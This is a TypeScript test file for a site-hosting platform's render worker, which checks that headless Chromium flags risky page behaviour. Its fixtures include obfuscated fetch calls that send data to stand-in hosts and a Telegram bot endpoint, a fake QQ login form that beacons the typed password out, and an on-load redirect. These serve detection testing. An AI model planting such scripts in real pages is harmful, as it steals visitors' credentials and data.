/**
 * What the render worker (docs/render.md) finds in a page, with Debian's real Chromium: data sent
 * to another host through a URL built at run time, requests judged by what they carry, a typed
 * password leaving, script errors in Chinese, the site's own routing, leaving the page on load or
 * by a form, a blank page and missing files. Its subject is the browser's work, stored as the
 * report's text: it runs on SQLite only (docs/decisions/tests.md "Files that run on one engine");
 * the jobs, their retries and the pictures' storage run on both in render.test.ts.
 */
import { format, messages } from '@sitehall/contracts';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as deployments from '../src/repositories/deployments.js';
import { createTestApp, review, type TestApp } from './helpers.js';
import { bufferOf, html, render, reportOf, upload } from './support/render-app.js';

describe('what a render finds', () => {
  let t: TestApp;
  let owner: { token: string };
  beforeAll(async () => {
    t = await createTestApp(render({ loadTimeoutMs: 3_000 }));
    owner = await t.createUser();
  });
  afterAll(() => t.close());

  it('reports data sent to another host through a URL built at run time, recorded and aborted', async () => {
    // The host appears nowhere in the source text: it is decoded from char codes when the page runs.
    const codes = [...'collect.exfil-test.example'].map((c) => c.charCodeAt(0)).join(',');
    const site = await upload(
      t,
      owner.token,
      html(
        '<h1>表单</h1>',
        `<script>const h = String.fromCharCode(${codes}); fetch('https://' + h + '/c', { method: 'POST', body: document.title + 'secret' });</script>`,
      ),
    );
    await t.ctx.services.render.idle();
    const report = await reportOf(t, site.deploymentId);
    // Data to a host that is no service meant to receive it: worth a look (medium), not proof.
    const finding = report.findings.find((f) => f.rule === 'runtime.data-sent');
    expect(finding?.severity).toBe('medium');
    expect(finding!.message).toContain('collect.exfil-test.example');
    expect(report.level).toBe('medium');
    expect(report.runtime?.external_requests).toEqual([
      expect.objectContaining({ url: 'https://collect.exfil-test.example/c', allowed: false }),
    ]);
    // The review list's risk sort counts it.
    const d = await deployments.byId(t.ctx.db, site.deploymentId);
    expect(d!.content_risk).toBe(3);
  });

  it('judges requests by what they carry and where: a library and a font are information, a drop is high', async () => {
    // The bot's address is built at run time: the static check sees no host.
    const bot = [...'api.telegram.org'].map((c) => c.charCodeAt(0)).join(',');
    const site = await upload(
      t,
      owner.token,
      html(
        '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Noto+Sans+SC">' +
          '<script src="https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js"></script>',
        `<script>const h = String.fromCharCode(${bot}); fetch('https://' + h + '/bot1:x/sendMessage', { method: 'POST', body: 'x' });</script>`,
      ),
    );
    await t.ctx.services.render.idle();
    const report = await reportOf(t, site.deploymentId);
    const of = (host: string) =>
      report.findings.find((f) => f.rule?.startsWith('runtime.') && f.message.includes(host));
    expect(of('cdn.jsdelivr.net')).toMatchObject({ rule: 'runtime.service', severity: 'info' });
    expect(of('fonts.googleapis.com')).toMatchObject({ rule: 'runtime.service', severity: 'info' });
    expect(of('api.telegram.org')).toMatchObject({ rule: 'runtime.data-dropped', severity: 'high' });
    expect(report.level).toBe('high');
  });

  it('reports a password the visitor typed that the page sends to another host, naming the field and host', async () => {
    const site = await upload(
      t,
      owner.token,
      html(
        '<form><input name="qq" placeholder="QQ号"><input type="password" name="pw" placeholder="QQ密码"><button>登录</button></form>',
        `<script>addEventListener('DOMContentLoaded', () => document.querySelector('form').onsubmit = (e) => {
          e.preventDefault();
          navigator.sendBeacon('https://collect.canary-test.example/b', btoa(document.querySelector('[name=pw]').value));
        });</script>`,
      ),
    );
    await t.ctx.services.render.idle();
    const report = await reportOf(t, site.deploymentId);
    const leak = report.findings.find((f) => f.rule === 'runtime.canary-leak');
    expect(leak).toMatchObject({ severity: 'high', kind: 'runtime_canary' });
    expect(leak!.message).toBe(
      '页面把访客在“pw”中输入的密码发往其他主机 collect.canary-test.example（sendBeacon 信标，base64 编码）',
    );
    expect(report.level).toBe('high');
    // The review page sees it (the contract's schema accepts the new kind and record).
    const detail = await t.request({ url: `/api/admin/projects/${site.id}`, token: await t.adminToken() });
    expect(detail.statusCode).toBe(200);
    expect(detail.json().data.content_check.runtime.canary_leaks).toEqual([
      expect.objectContaining({
        kind: 'password',
        field: 'pw',
        host: 'collect.canary-test.example',
        via: 'ping',
      }),
    ]);
    expect(detail.json().data.renders).toEqual([
      expect.objectContaining({ state: 'done', error: null, newest: true }),
    ]);
  });

  it('runs the site as it goes live: storage and cookies raise no script error; an error reads in Chinese', async () => {
    const site = await upload(
      t,
      owner.token,
      html(
        '<h1>存储</h1>',
        "<script>localStorage.setItem('k', '1'); document.cookie = 'a=1'; sessionStorage.k = 2; missingFunction();</script>",
      ),
    );
    await t.ctx.services.render.idle();
    const report = await reportOf(t, site.deploymentId);
    const errors = report.findings.filter((f) => f.rule === 'runtime.console-error');
    expect(errors).toEqual([
      expect.objectContaining({
        message: '页面运行时出错（引用了未定义的名称）：“missingFunction”未定义',
        excerpt: expect.stringContaining('missingFunction is not defined'),
      }),
    ]);
  });

  it('opens a site with the routing visitors meet: its redirects, rewrites, headers and SPA fallback', async () => {
    // Each rule the page relies on, and what the render reports when one is not applied.
    const page = html(
      '<h1>路由</h1>',
      `<link rel="stylesheet" href="old.css"><script>(async () => {
        const word = (await (await fetch('api/word')).json()).word;
        if (!crossOriginIsolated) isolationMissing();
        if ((await fetch('app/deep/link')).status !== 200) fallbackMissing();
        document.title = word;
      })();</script>`,
    );
    const site = await upload(t, owner.token, page, {
      'css/site.css': 'html, body { margin: 0; height: 100%; background: rgb(0, 160, 0); }',
      'data.json': JSON.stringify({ word: '已改写' }),
      _redirects: '/old.css /css/site.css 301\n/api/* /data.json 200\n',
      _headers:
        '/*\n  Cross-Origin-Opener-Policy: same-origin\n  Cross-Origin-Embedder-Policy: require-corp\n',
    });
    await t.ctx.services.render.idle();
    const errorsOf = (r: Awaited<ReturnType<typeof reportOf>>) =>
      r.findings.filter((f) => f.rule === 'runtime.console-error').map((f) => f.excerpt);
    const missingOf = (r: Awaited<ReturnType<typeof reportOf>>) =>
      r.findings.filter((f) => f.rule === 'runtime.missing').map((f) => f.message);
    const pending = await reportOf(t, site.deploymentId);
    // The redirect, the rewrite and the site's COOP/COEP were applied; the SPA fallback is off.
    expect(errorsOf(pending)).toEqual([expect.stringContaining('fallbackMissing is not defined')]);
    expect(missingOf(pending)).toEqual([expect.stringContaining('/app/deep/link')]);
    // The picture shows the style the redirect led to.
    const d = await deployments.byId(t.ctx.db, site.deploymentId);
    const { dominant } = await sharp(await bufferOf(t, d!.thumbnail_sha256!)).stats();
    // (sharp's dominant colour is a bin of 16 levels: rgb(8, 168, 8) for rgb(0, 160, 0))
    expect(dominant.g - Math.max(dominant.r, dominant.b)).toBeGreaterThan(120);

    // The owner turns on the SPA fallback; the version goes live and is rendered again, with it.
    const on = await t.request({
      method: 'PUT',
      url: `/api/projects/${site.id}`,
      token: owner.token,
      body: { spa_fallback: true },
    });
    expect(on.statusCode).toBe(200);
    expect((await review(t, site.id, 'approve')).statusCode).toBe(200);
    // The approval has answered before the live version's render is queued: idle() waits for both.
    await t.ctx.services.render.idle();
    const live = await reportOf(t, site.deploymentId);
    expect(errorsOf(live)).toEqual([]);
    expect(missingOf(live)).toEqual([]);
  }, 300_000);

  it('reports a page that leaves for another host on load', async () => {
    const site = await upload(
      t,
      owner.token,
      html('<p>稍候</p>', '<script>location.href = "https://elsewhere-test.example/landing";</script>'),
    );
    await t.ctx.services.render.idle();
    const report = await reportOf(t, site.deploymentId);
    const finding = report.findings.find((f) => f.rule === 'runtime.navigation');
    expect(finding?.message).toContain('elsewhere-test.example');
    expect(finding?.severity).toBe('high');
  });

  it('says a form led to another host when the visitor submitted it, not that the page left on its own', async () => {
    const site = await upload(
      t,
      owner.token,
      html(
        '<form action="https://signin-elsewhere.example/login" method="post"><input name="user" placeholder="用户名"><button type="submit">登录</button></form>',
      ),
    );
    await t.ctx.services.render.idle();
    const report = await reportOf(t, site.deploymentId);
    expect(report.findings.map((f) => f.rule)).not.toContain('runtime.navigation');
    expect(report.findings.find((f) => f.rule === 'runtime.navigation-on-action')).toMatchObject({
      severity: 'low',
      category: 'risk',
      message: format(messages.review.contentCheck.runtimeNavigationOnAction, {
        host: 'signin-elsewhere.example',
      }),
    });
  });

  it('reports a blank page and missing files as usability findings', async () => {
    const site = await upload(
      t,
      owner.token,
      html(
        '<img src="missing.png" width="1" height="1" style="opacity:0">' +
          '<script>new Image().src = "made-at-run-time.png";</script>',
      ),
    );
    await t.ctx.services.render.idle();
    const report = await reportOf(t, site.deploymentId);
    const rules = report.findings.map((f) => f.rule);
    expect(rules).toContain('runtime.blank');
    // A path the files name is the static check's finding, listed once; one made at run time is the render's.
    expect(rules).toContain('ref.missing-file');
    const missing = report.findings.filter((f) => f.rule === 'runtime.missing').map((f) => f.message);
    expect(missing.join('\n')).toContain('made-at-run-time.png');
    expect(missing.filter((m) => m.includes('missing.png'))).toEqual([]);
    expect(report.findings.find((f) => f.rule === 'runtime.blank')?.category).toBe('usability');
  });
});
